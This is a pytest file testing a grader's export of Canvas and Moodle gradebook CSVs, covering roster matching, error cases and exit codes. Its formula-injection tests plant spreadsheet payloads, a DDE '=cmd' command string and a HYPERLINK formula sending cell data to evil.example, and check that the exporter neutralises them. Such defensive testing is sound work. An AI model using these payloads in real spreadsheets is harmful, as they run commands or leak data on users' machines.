"""`grade export`: Canvas and Moodle gradebook CSVs from result files and the LMS's roster.

No notebook is graded here: each test writes the results `grade` would have written
(grader.results.write_result) and a roster as the LMS exports it, into tmp_path.
"""

from __future__ import annotations

import csv
import io

import pytest

from grader import results as r
from grader.integrations.lms_export import (
    ExportError,
    ExportOptions,
    build_export,
    canvas_user_id,
    export,
    load_results,
    moodle_participant,
)
from grader.reports.gradebook import gradebook_csv
from grader.run.cli import main

CANVAS_ROSTER = (
    "Student,ID,SIS User ID,SIS Login ID,Section,HW2 (12345),Current Score\n"
    "    Points Possible,,,,,44,(read only)\n"
    '"Smith, Bob",101,S101,bsmith,CS 101,,\n'
    '"Diaz, Ana",102,S102,adiaz,CS 101,,\n'
    '"Kim, Min",103,S103,mkim,CS 101,,\n'
)
MOODLE_GRADEBOOK = (
    "First name,Last name,ID number,Institution,Department,Email address,Assignment: HW2 (Real),Last downloaded from this course\n"
    "Bob,Smith,S101,,,bob@uni.edu,-,1700000000\n"
    "Ana,Diaz,S102,,,ana@uni.edu,-,1700000000\n"
    "Min,Kim,S103,,,min@uni.edu,-,1700000000\n"
)
MOODLE_WORKSHEET = (
    "Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,"
    "Last modified (submission),Last modified (grade),Feedback comments\n"
    '"Participant 5001","Bob Smith",bob@uni.edu,Submitted,,44.00,Yes,"Monday, 1 December 2025, 10:00 AM",'
    '"Tuesday, 2 December 2025, 9:00 AM",\n'
    '"Participant 5002","Ana Diaz",ana@uni.edu,Submitted,,44.00,Yes,"Monday, 1 December 2025, 11:00 AM",-,\n'
    '"Participant 5003","Min Kim",min@uni.edu,"No submission",,44.00,Yes,-,-,\n'
)


def result(
    submission: str, points: float = 40.0, manual: float | None = 4.0, status: str = "ok", assignment: str = "hw2", **kwargs
) -> r.GradeResult:
    """A graded hw2 result: 40 auto-graded points and a 4-point written question (TA-graded unless manual=None)."""
    questions = [
        r.QuestionResult("corr2d", "corr2d", "pass" if points >= 20 else "fail", min(points, 20.0), 20.0),
        r.QuestionResult("lenet", "LeNet", "pass" if points >= 40 else "fail", max(points - 20.0, 0.0), 20.0),
        r.QuestionResult("ex_proof", "Proof", "manual", manual or 0.0, 4.0, ta_points=manual),
    ]
    return r.GradeResult(
        submission, "ab" * 32, assignment, "quick", "cpu", "0.1.0", r.ExecutionRecord(status, ""), questions, cache_key="k", **kwargs
    )


def write(tmp_path, *graded: tuple[str, r.GradeResult], roster: str = CANVAS_ROSTER):
    out = tmp_path / "reports"
    out.mkdir(exist_ok=True)
    for stem, res in graded:
        r.write_result(res, out / f"{stem}.json")
    (out / "gradebook.csv").write_text(gradebook_csv([res for _, res in graded]), encoding="utf-8")  # as `grade` leaves it
    (tmp_path / "roster.csv").write_text(roster, encoding="utf-8-sig")
    return out, tmp_path / "roster.csv"


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def canvas_class(tmp_path):
    return write(
        tmp_path,
        ("smithbob_101_9001_hw2", result("subs/smithbob_101_9001_hw2.ipynb", 38.5, 3.0)),
        ("diazana_LATE_102_9002_hw2", result("subs/diazana_LATE_102_9002_hw2.ipynb", 40.0, 4.0)),
    )


# --------------------------------------------------------------------------- formats


def test_canvas_export_has_canvas_columns_a_points_possible_row_and_the_roster_assignment_column(tmp_path):
    out, roster = canvas_class(tmp_path)
    made = export(out, roster, tmp_path / "canvas.csv", ExportOptions("canvas"))
    assert rows((tmp_path / "canvas.csv").read_text(encoding="utf-8")) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "HW2 (12345)"],
        ["Points Possible", "", "", "", "", "44"],
        ["Smith, Bob", "101", "S101", "bsmith", "CS 101", "41.5"],
        ["Diaz, Ana", "102", "S102", "adiaz", "CS 101", "44"],
        ["Kim, Min", "103", "S103", "mkim", "CS 101", ""],
    ]
    assert made.not_graded == 0 and "2 graded, 1 without a submission" in made.summary


def test_canvas_column_and_points_possible_options_name_the_assignment_and_scale_the_scores(tmp_path):
    out, roster = canvas_class(tmp_path)
    made = build_export(load_results(out), roster, ExportOptions("canvas", column="Homework 2 (777)", points_possible=100))
    table = rows(made.text)
    assert table[0][-1] == "Homework 2 (777)" and table[1][-1] == "100"
    assert [row[-1] for row in table[2:]] == ["94.32", "100", ""]  # 41.5/44 and 44/44 of 100


def test_moodle_export_from_the_gradebook_export_keeps_identity_columns_and_adds_grade_and_feedback(tmp_path):
    out, roster = write(
        tmp_path,
        ("a", result("moodle/Bob Smith_5001_assignsubmission_file/hw2.ipynb", 30.0, 2.0)),
        ("b", result("moodle/Ana Diaz_5002_assignsubmission_file/hw2.ipynb", 40.0, 4.0)),
        roster=MOODLE_GRADEBOOK,
    )
    made = build_export(load_results(out), roster, ExportOptions("moodle", feedback=True))
    assert rows(made.text) == [
        ["First name", "Last name", "ID number", "Email address", "hw2", "Feedback"],
        ["Bob", "Smith", "S101", "bob@uni.edu", "32", "hw-grader: 32/44 points; not passed: lenet"],
        ["Ana", "Diaz", "S102", "ana@uni.edu", "44", "hw-grader: 44/44 points"],
        ["Min", "Kim", "S103", "min@uni.edu", "", "no submission"],
    ]


def test_moodle_export_from_the_grading_worksheet_is_a_worksheet_moodle_takes_back(tmp_path):
    out, roster = write(tmp_path, ("a", result("Bob Smith_5001_assignsubmission_file_hw2.ipynb", 40.0, 1.0)), roster=MOODLE_WORKSHEET)
    table = rows(build_export(load_results(out), roster, ExportOptions("moodle", feedback=True)).text)
    assert table[0] == ["Identifier", "Full name", "Email address", "Grade", "Last modified (grade)", "Feedback comments"]
    assert table[1][:5] == ["Participant 5001", "Bob Smith", "bob@uni.edu", "41", "Tuesday, 2 December 2025, 9:00 AM"]


# --------------------------------------------------------------------------- who is who


@pytest.mark.parametrize(
    ("name", "user"),
    [
        ("smithbob_101_9001_hw2.ipynb", "101"),
        ("smithbob_LATE_101_9001_hw2.ipynb", "101"),
        ("smith_jrbob_late_101_9001_my_hw_2.ipynb", "101"),
        ("hw2.ipynb", None),
    ],
)
def test_canvas_download_names_give_the_canvas_user_id(name, user):
    assert canvas_user_id(f"subs/{name}") == user


@pytest.mark.parametrize(
    ("path", "found"),
    [
        ("dl/Ana Diaz_5002_assignsubmission_file/hw2.ipynb", ("Ana Diaz", "5002")),
        ("dl/Ana Diaz_5002_assignsubmission_file/sub/hw2.ipynb", ("Ana Diaz", "5002")),
        ("Ana Diaz_5002_assignsubmission_file_hw2.ipynb", ("Ana Diaz", "5002")),
        ("dl/hw2.ipynb", None),
    ],
)
def test_moodle_download_names_give_the_full_name_and_participant_id(path, found):
    assert moodle_participant(path) == found


def test_a_match_column_maps_notebooks_named_any_way(tmp_path):
    roster = CANVAS_ROSTER.replace("Current Score", "submission").replace(",,\n", ",,x\n")
    roster = roster.replace("bsmith,CS 101,,x", "bsmith,CS 101,,bob.ipynb").replace("adiaz,CS 101,,x", "adiaz,CS 101,,ana")
    out, roster = write(tmp_path, ("bob", result("subs/bob.ipynb", 40.0)), ("ana", result("subs/ana.ipynb", 20.0)), roster=roster)
    table = rows(build_export(load_results(out), roster, ExportOptions("canvas", match_column="submission")).text)
    assert [row[-1] for row in table[2:]] == ["44", "24", ""]


def test_moodle_names_that_two_students_share_are_an_error(tmp_path):
    roster = MOODLE_GRADEBOOK + "Ana,Diaz,S104,,,ana2@uni.edu,-,1700000000\n"
    out, roster = write(tmp_path, ("a", result("Ana Diaz_5002_assignsubmission_file/hw2.ipynb")), roster=roster)
    with pytest.raises(ExportError, match=r"'Ana Diaz' is the name of several students \(row 3, row 5\)"):
        build_export(load_results(out), roster, ExportOptions("moodle"))


# --------------------------------------------------------------------------- nothing written on a problem


def test_an_unmapped_submission_is_an_error_naming_it_and_nothing_is_written(tmp_path):
    out, roster = write(
        tmp_path,
        ("ok", result("smithbob_101_9001_hw2.ipynb")),
        ("stray", result("subs/stray.ipynb")),
        ("ghost", result("ghost_999_9009_hw2.ipynb")),
    )
    target = tmp_path / "canvas.csv"
    with pytest.raises(ExportError) as info:
        export(out, roster, target, ExportOptions("canvas"))
    assert "subs/stray.ipynb (stray.json): not a Canvas download name" in str(info.value)
    assert "ghost_999_9009_hw2.ipynb (ghost.json): Canvas user id 999 is not in the roster's ID column" in str(info.value)
    assert not target.exists() and not list(tmp_path.glob(".canvas.csv.*"))


def test_two_submissions_for_one_student_are_an_error_naming_both_and_an_existing_file_is_unchanged(tmp_path):
    out, roster = write(tmp_path, ("one", result("smithbob_101_9001_hw2.ipynb")), ("two", result("smithbob_101_9003_hw2_v2.ipynb")))
    target = tmp_path / "canvas.csv"
    target.write_text("last week's export\n", encoding="utf-8")
    with pytest.raises(
        ExportError,
        match=r"Smith, Bob \(ID 101\), roster row 3, has 2 submissions: "
        r"smithbob_101_9001_hw2.ipynb, smithbob_101_9003_hw2_v2.ipynb",
    ):
        export(out, roster, target, ExportOptions("canvas"))
    assert target.read_text(encoding="utf-8") == "last week's export\n"


def test_a_malformed_result_file_is_an_error_naming_it(tmp_path):
    out, roster = canvas_class(tmp_path)
    (out / "broken.json").write_text('{"schema_version": 1, "submission": "x"', encoding="utf-8")
    with pytest.raises(ExportError, match=r"broken\.json: not a readable grading result"):
        load_results(out)


def test_pending_manual_points_are_an_error_unless_allowed_and_then_the_points_so_far_with_a_warning(tmp_path):
    out, roster = write(tmp_path, ("a", result("smithbob_101_9001_hw2.ipynb", 40.0, manual=None)))
    with pytest.raises(ExportError, match=r"4 points of manual questions not graded yet.*--allow-pending"):
        build_export(load_results(out), roster, ExportOptions("canvas"))
    made = build_export(load_results(out), roster, ExportOptions("canvas", allow_pending=True))
    assert rows(made.text)[2][-1] == "40" and rows(made.text)[1][-1] == "44"
    assert made.warnings == ["Smith, Bob (ID 101): 4 manual points pending; exported 40 points so far"]


def test_results_of_two_assignments_are_an_error_unless_one_is_chosen(tmp_path):
    out, roster = write(
        tmp_path, ("a", result("smithbob_101_9001_hw2.ipynb")), ("b", result("diazana_102_9002_demo.ipynb", assignment="demo"))
    )
    with pytest.raises(ExportError, match=r"several assignments: .*--assignment"):
        build_export(load_results(out), roster, ExportOptions("canvas"))
    table = rows(build_export(load_results(out), roster, ExportOptions("canvas", assignment="hw2")).text)
    assert [row[-1] for row in table[2:]] == ["44", "", ""]


def test_canvas_points_that_differ_from_the_results_total_are_an_error_suggesting_points_possible(tmp_path):
    out, roster = canvas_class(tmp_path)
    roster.write_text(CANVAS_ROSTER.replace(",44,(read only)", ",100,(read only)"), encoding="utf-8")
    with pytest.raises(ExportError, match=r"worth 100 points.*--points-possible 100"):
        build_export(load_results(out), roster, ExportOptions("canvas"))


# --------------------------------------------------------------------------- notebooks the grader could not grade


def test_an_environment_error_is_an_empty_cell_with_a_warning_never_a_zero(tmp_path):
    blocked = result("smithbob_101_9001_hw2.ipynb", 0.0, None, status="environment_error")
    for q in blocked.questions:
        q.status, q.message = "environment", "not graded: CUDA was requested"
    blocked.execution.message = "CUDA was requested but the kernel sees no GPU"
    out, roster = write(tmp_path, ("a", blocked))
    made = build_export(load_results(out), roster, ExportOptions("canvas", missing="zero"))
    assert rows(made.text)[2][-1] == "" and rows(made.text)[3][-1] == "0"  # Bob not graded; Ana did not submit
    assert made.not_graded == 1 and "environment_error" in made.warnings[0] and "grade it again" in made.warnings[0]


def test_a_crashed_grading_process_is_not_graded_but_a_crashed_kernel_the_grader_replayed_is(tmp_path):
    lost = result("smithbob_101_9001_hw2.ipynb", 0.0, status="crashed")
    lost.questions[0].status = lost.questions[1].status = "error"
    lost.questions[0].message = lost.questions[1].message = "not graded: the grading process died (signal 9)"
    student_crash = result("diazana_102_9002_hw2.ipynb", 20.0, status="crashed")  # graded after the replay
    out, roster = write(tmp_path, ("a", lost), ("b", student_crash))
    made = build_export(load_results(out), roster, ExportOptions("canvas"))
    assert [row[-1] for row in rows(made.text)[2:]] == ["", "24", ""]
    assert made.not_graded == 1 and "grading process died" in made.warnings[0]


def test_missing_omit_leaves_students_without_a_grade_out(tmp_path):
    out, roster = canvas_class(tmp_path)
    table = rows(build_export(load_results(out), roster, ExportOptions("canvas", missing="omit")).text)
    assert [row[1] for row in table[2:]] == ["101", "102"]


# --------------------------------------------------------------------------- formula injection


def test_formula_injection_is_neutralised_in_roster_names_and_feedback_and_numbers_stay_numbers(tmp_path):
    roster = MOODLE_GRADEBOOK.replace("Bob,Smith", "=SUM(1+1),@Smith").replace("Min,Kim", "-Min,+Kim")
    out, roster = write(tmp_path, ("a", result("=SUM(1+1) @Smith_5001_assignsubmission_file/hw2.ipynb", 40.0)), roster=roster)
    table = rows(build_export(load_results(out), roster, ExportOptions("moodle", feedback=True)).text)
    assert table[1][:2] == ["'=SUM(1+1)", "'@Smith"] and table[1][4] == "44"
    assert table[3][:2] == ["'-Min", "'+Kim"]


def test_formula_injection_is_neutralised_in_canvas_student_and_section_cells(tmp_path):
    roster = CANVAS_ROSTER.replace('"Smith, Bob"', "\"=cmd|' /C calc'!A0\"").replace("S102,adiaz,CS 101", "S102,adiaz,@SUM(A1)")
    out, roster = write(tmp_path, ("a", result("smithbob_101_9001_hw2.ipynb")), roster=roster)
    table = rows(build_export(load_results(out), roster, ExportOptions("canvas")).text)
    assert table[2][0] == "'=cmd|' /C calc'!A0" and table[2][-1] == "44" and table[3][4] == "'@SUM(A1)"


def test_the_gradebook_neutralises_a_submission_named_like_a_formula():
    evil = result('=HYPERLINK("http://evil.example/?"&A1,"open").ipynb')
    row = rows(gradebook_csv([evil]))[1]
    assert row[0] == '\'=HYPERLINK("http://evil.example/?"&A1,"open").ipynb'
    assert row[2:5] == ["44", "44", "0"]


# --------------------------------------------------------------------------- command line


def test_grade_export_exits_0_and_writes_the_file(tmp_path, capsys):
    out, roster = canvas_class(tmp_path)
    target = tmp_path / "canvas.csv"
    assert main(["export", str(out), "--format", "canvas", "--roster", str(roster), "-o", str(target)]) == 0
    assert target.is_file() and f"wrote {target}: 3 students" in capsys.readouterr().out


def test_grade_export_exits_2_and_writes_nothing_on_an_unmapped_submission(tmp_path, capsys):
    out, roster = write(tmp_path, ("stray", result("subs/stray.ipynb")))
    target = tmp_path / "canvas.csv"
    assert main(["export", str(out), "--format", "canvas", "--roster", str(roster), "-o", str(target)]) == 2
    assert not target.exists() and "nothing written" in capsys.readouterr().err


def test_grade_export_exits_3_when_a_notebook_was_not_graded_and_still_writes_the_rest(tmp_path, capsys):
    blocked = result("smithbob_101_9001_hw2.ipynb", 0.0, None, status="environment_error")
    out, roster = write(tmp_path, ("a", blocked), ("b", result("diazana_102_9002_hw2.ipynb")))
    target = tmp_path / "canvas.csv"
    assert main(["export", str(out), "--format", "canvas", "--roster", str(roster), "-o", str(target)]) == 3
    assert [row[-1] for row in rows(target.read_text(encoding="utf-8"))[2:]] == ["", "44", ""]
    assert "warning" in capsys.readouterr().err


def test_grade_export_refuses_to_overwrite_the_roster(tmp_path):
    out, roster = canvas_class(tmp_path)
    assert main(["export", str(out), "--format", "canvas", "--roster", str(roster), "-o", str(roster)]) == 2
    assert roster.read_text(encoding="utf-8-sig") == CANVAS_ROSTER


def test_lms_export_keeps_the_roster_modules_names_and_its_error_is_a_config_error():
    """Roster reading and matching live in grader/integrations/lms_roster.py; grader.integrations.lms_export still offers their names."""
    from grader.errors import ConfigError
    from grader.integrations import lms_export, lms_roster

    for name in lms_export.__all__:
        assert hasattr(lms_export, name), name
        if hasattr(lms_roster, name):
            assert getattr(lms_export, name) is getattr(lms_roster, name), name
    assert issubclass(ExportError, ConfigError) and issubclass(ExportError, ValueError)
